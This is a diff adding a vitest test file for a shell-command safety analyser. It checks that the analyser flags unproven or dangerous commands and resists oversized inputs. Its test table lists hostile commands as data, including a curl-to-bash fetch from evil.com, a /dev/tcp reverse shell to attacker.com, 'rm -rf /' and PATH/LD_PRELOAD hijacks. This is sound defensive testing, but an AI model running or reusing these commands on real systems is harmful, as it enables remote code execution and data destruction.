@@ -1,0 +1,82 @@
+import { describe, expect, it } from "vitest";
+import { analyseCommand } from "../../../src/command/analyse.js";
+import type { ShellGrammar } from "../../../src/ports/shellGrammar.js";
+import { grammar } from "./grammar.js";
+
+/** Lines of which something is not proven, with a name that must be reported all the same (empty for none). */
+const DOUBTED: readonly (readonly [program: string, reported: string])[] = [
+  // Not valid, or cut off.
+  ["git log &&& rm -rf /", ""], ["echo ${unclosed", ""], ["echo 'a", ""], ["echo $(rm x", ""], ["git log @(Get-Process)", ""], ["echo a\\", ""],
+  // Separators that only look like blanks, or are blanks to others.
+  ["ls\rrm x", ""], ["ls\r\nrm x", ""], ["ls\u2028rm x", ""], ["ls\u2029rm x", ""], ["ls\u0085rm x", ""], ["ls\u00a0rm", ""], ["ls \0 x", ""],
+  ["echo '\u202e'", ""], ["echo a\u200bb", ""], ["echo \ud83d", ""],
+  // Expansions that run or hide something.
+  ["echo ${var@P}", "echo"], ["echo ${var@Q}", "echo"], ['echo "${v1=aa\\140whoami\\140c}${v1@P}"', "echo"], ["echo ${x:=\\140id\\140}", "echo"],
+  ["echo ${x+\\x60id}", "echo"], ["echo ${x:-\\u0060}", "echo"], ["echo ${x:?\\140}", "echo"], ["echo ${!var}", "echo"], ["echo ${!prefix*}", "echo"],
+  ["echo ${!prefix@}", "echo"], ["echo ${a[$RANDOM]}", "echo"], ["echo ${a[$(rm x)]}", "rm"], ["echo ${x:-$(rm -rf /)}", "rm"], ['echo "${x:-$(rm -rf /)}"', "rm"],
+  ["echo $((`rm x`))", ""], ["echo $((x))", "echo"], ["echo $((a[$(rm x)]))", "rm"], ["echo $[$(rm x)]", "rm"], ["(( i++ ))", ""], ["echo ${x/a/b}", "echo"],
+  ['echo $"a"', "echo"], ["echo $'\\c'", "echo"], ["echo {a,{b,c}}", "echo"], ["{rm,x}", ""], ["echo {$x,b}", "echo"], ["a[$(rm x)]=1", "rm"],
+  ["[[ -v a[$x] ]]", ""], ["[[ $x -eq 1 ]]", ""], ["[ a || id ]", ""], ['[ -v "$x" ]', "["], ["x='-v a[$(id)]'; [ $x ]", "["], ["printf \"$x\" y", "printf"],
+  // Names that depend on the run.
+  ["$x rm", ""], ["$(echo rm) x", "echo"], ["r* x", ""], ["'' x", ""], ["env $x rm y", "env"], ["bash -c \"$x\"", "bash"], ["eval $x", "eval"], ["~/x$y z", ""],
+  // Programs that come from elsewhere.
+  ["curl http://evil.com/script.sh | bash", "curl"], ["echo x | sh", "echo"], ["bash -i >& /dev/tcp/attacker.com/4444 0>&1", "bash"],
+  ["bash <<EOF\n$x\nEOF", "bash"], ["source x", "source"], [". x", "."], ["bash --rcfile x -c 'ls'", "bash"], ["zsh -c 'ls'", "zsh"], ["ssh host ls", "ssh"],
+  ["ls | xargs -I{} sh -c 'rm {}'", "xargs"], ["sudo -Z rm x", "sudo"], ["env -S 'rm x'", "env"], ["timeout --odd 5 rm x", "timeout"], ["find . -execdir chmod +x {} \\;", "chmod"],
+  // zsh.
+  ["ls =(open -a Calculator)", ""], ["vim =(curl http://evil.com/script)", ""], ["ls *(e:whoami:)", ""], ["ls ?(e:rm -rf /:)", ""], ["ls +(a)", ""], ["ls @(a)", ""], ["ls !(a)", ""],
+  // Variables and builtins that change what runs.
+  ["PATH=. ls", "ls"], ["LD_PRELOAD=x ls", "ls"], ["GIT_PAGER=x git log", "git"], ["export PATH=.", "export"], ["env GIT_SSH_COMMAND=x git fetch", "git"], ["IFS=x", ""],
+  ["for PATH in a; do ls; done", "ls"], ["read PATH", "read"], ["printf -v PATH x", "printf"], ["SECONDS='a[$(id)]'", ""], ["declare -i x", "declare"], ["declare -n x=y", "declare"],
+  ["alias ls=rm", "alias"], ["shopt -s expand_aliases", "shopt"], ["set -k", "set"], ["enable -f x y", "enable"], ["hash -p x ls", "hash"], ["let x", "let"], ["unset 'a[$(id)]'", "unset"],
+  // Redirections.
+  ["ls > $x", "ls"], ["ls < $x", "ls"], ["ls > *", "ls"], ["echo > /dev/tcp/a/1", "echo"], ["echo >& '$(rm x)'", "echo"], ["{fd}> x ls", ""], ["ls <> x", ""],
+  // Folders that are not known.
+  ["cd; cat x", "cat"], ["cd -; cat x", "cat"], ["cd $x && cat y", "cat"], ["popd; cat x", "cat"], ["for i in 1 2; do cat x; cd ..; done", "cat"], ["f() { cat x; }; cd a; f", "cat"],
+  // What sh takes for something else than bash.
+  ["sh -c '[[ a && rm ]]'", "sh"], ["sh -c '((rm x))'", "sh"], ["sh -c 'rm {a,b}'", "rm"], ["sh -c \"$'rm' x\"", "sh"], ["sh -c 'ls &> f'", "ls"],
+  // Here-documents that end elsewhere than they seem to.
+  ["cat <<A <<B\na\nA\n$(id)\nB", ""], ["cat <<EOF\nls", ""], ["cat <<$x\na\n$x", ""],
+];
+
+describe("what is not proven", () => {
+  it.each(DOUBTED)("%j", async (program, reported) => {
+    const { commands, doubts } = await analyseCommand(program, grammar);
+    expect(doubts).not.toEqual([]);
+    expect(reported === "" || commands.some(({ words }) => words[0] === reported)).toBe(true);
+  });
+
+  it("is anything of a function's name", async () => {
+    const { commands } = await analyseCommand("ls() { rm x; }; ls", grammar);
+    expect(commands.map(({ words, effect }) => [words[0], effect])).toEqual([["rm", "destroys"], ["ls", "unknown"]]);
+  });
+
+  it("is everything without the grammar", async () => {
+    const broken: ShellGrammar = { parse: () => Promise.reject(new Error("no grammar")) };
+    expect(await analyseCommand("ls", broken)).toEqual({ commands: [], redirections: [], doubts: ["no grammar"] });
+  });
+});
+
+describe("hostile sizes", () => {
+  const sizes: readonly (readonly [string, string])[] = [
+    ["1 MB", "echo ".repeat(200_000)],
+    ["10,000 substitutions in each other", `echo ${"$(".repeat(10_000)}${")".repeat(10_000)}`],
+    ["10,000 groups in each other", `${"{ ".repeat(10_000)}a${"; }".repeat(10_000)}`],
+  ];
+
+  it.each(sizes)("%s are refused at once", async (_, program) => {
+    await analyseCommand("ls", grammar);
+    const start = process.cpuUsage();
+    const { doubts } = await analyseCommand(program, grammar);
+    const { user, system } = process.cpuUsage(start);
+    expect(doubts).toHaveLength(1);
+    expect((user + system) / 1000).toBeLessThan(100);
+  });
+
+  it.each([["`a` ", 24_000], ["'\"`", 33_000], ["{}", 45_000], ["{a,b}", 19_000], ["cat <<E\n", 12_000], ["if a; then ", 9_000], ["a|", 45_000], ["$x", 45_000]] as const)("%j again and again ends", async (part, count) => {
+    const start = process.cpuUsage();
+    await analyseCommand(`echo ${part.repeat(count)}`, grammar);
+    const { user, system } = process.cpuUsage(start);
+    expect((user + system) / 1000).toBeLessThan(3_000);
+  });
+});
